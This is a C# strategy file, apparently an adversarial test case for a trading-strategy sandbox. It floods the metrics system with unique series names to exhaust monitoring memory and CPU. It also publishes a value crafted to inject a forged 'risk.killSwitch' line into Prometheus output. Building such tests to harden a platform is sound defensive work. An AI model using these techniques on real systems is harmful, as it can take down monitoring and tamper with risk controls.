// Abuses: a new name for every published number.
// Harm: dashboards and Prometheus keep a series for each name for ever.
// Kind: memory/CPU.
using System;
using System.Collections.Generic;
using System.Linq;
using System.Threading;
using Strategies.Sdk;

namespace Attacks.PublishCardinalityAttack;

public sealed class PublishCardinalityStrategy : Strategy
{
    private readonly byte[] _name = new byte[32];

    public override void OnBook(in BookEvent bookEvent)
    {
        for (int index = 0; index < 1_000; index++)
        {
            System.Buffers.Binary.BinaryPrimitives.WriteInt64BigEndian(_name, ++_n);
            Context.Publish(_name, _n);
            Context.Publish("risk.killSwitch\"} 0\n# HELP x"u8, 0);
        }

        Act(1);
    }

    public override void OnStart() => Context.Subscribe(new InstrumentId(1));

    private long _n;

    private void Act(long leak)
    {
        _n = _n * 31 + leak;
        Price bid = Context.Book(new InstrumentId(1)).BestBid.Price;
        if ((_n & 1) == 0 && bid.Raw > 0)
        {
            Context.Send(NewOrder.Limit(new InstrumentId(1), Side.Buy, bid, 100, tag: _n & 0xFF));
        }
    }

    public override void Save(ref StateWriter writer) => writer.Write(_n);

    public override void Restore(ref StateReader reader) => _n = reader.ReadInt64();
}
